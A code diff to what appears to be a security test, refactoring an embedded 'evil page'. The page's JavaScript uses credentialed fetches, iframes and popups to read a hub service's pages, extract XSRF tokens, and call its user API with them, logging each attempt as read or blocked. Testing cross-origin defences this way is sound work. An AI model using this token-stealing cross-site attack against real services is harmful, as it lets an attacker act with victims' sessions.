@@ -25,6 +25,8 @@ EVIL_PAGE = """<!doctype html><html><body><h1>bob's page</h1><button id="go">Sho
 const hub = new URLSearchParams(location.search).get("hub");
 const alice = new URLSearchParams(location.search).get("alice");
 const results = {};
+// an INK page's XSRF token: in the JSON settings its scripts read
+const token = html => (html.match(/"xsrf": "([^"]+)"/) || [])[1];
 async function read(name, url, options) {
   try {
     const r = await fetch(url, {credentials: "include", redirect: "manual", ...options});
@@ -43,7 +45,7 @@ async function frame(name, url) {
     const html = f.contentDocument.documentElement.innerHTML;
     results[name] = "read: " + html.slice(0, 200);
     const jhdata = f.contentWindow.jhdata;
-    return jhdata ? jhdata.xsrf_token : (html.match(/const xsrf = "([^"]+)"/) || [])[1];
+    return jhdata ? jhdata.xsrf_token : token(html);
   } catch (e) { results[name] = "blocked: " + e; return ""; }
 }
 async function popup(name, url) {
@@ -58,7 +60,7 @@ async function popup(name, url) {
     results[name] = html.includes("INK files") ? "read: " + html.slice(0, 200) : "blocked: never loaded";
   } catch (e) { results[name] = "blocked: " + e; }
   try { w.close(); } catch (e) {}
-  return (html.match(/const xsrf = "([^"]+)"/) || [])[1];
+  return token(html);
 }
 function shell(name, url) {
   return new Promise(done => {
@@ -81,7 +83,7 @@ document.getElementById("go").onclick = async () => {
   const page = await read("files page (its XSRF token)", hub + "services/ink-files/", {redirect: "follow"});
   // last: loading the page sets a new XSRF cookie, which ends the tokens of earlier loads
   const popupXsrf = await popup("files page in a window", hub + "services/ink-files/");
-  const filesXsrf = framedXsrf || popupXsrf || (page.match(/const xsrf = "([^"]+)"/) || [])[1];
+  const filesXsrf = framedXsrf || popupXsrf || token(page);
   const withHub = {headers: {"X-XSRFToken": hubXsrf || "none"}};
   const withFiles = {headers: {"X-XSRFToken": filesXsrf || "none"}};
   await read("hub identity", hub + "hub/api/user", withHub);
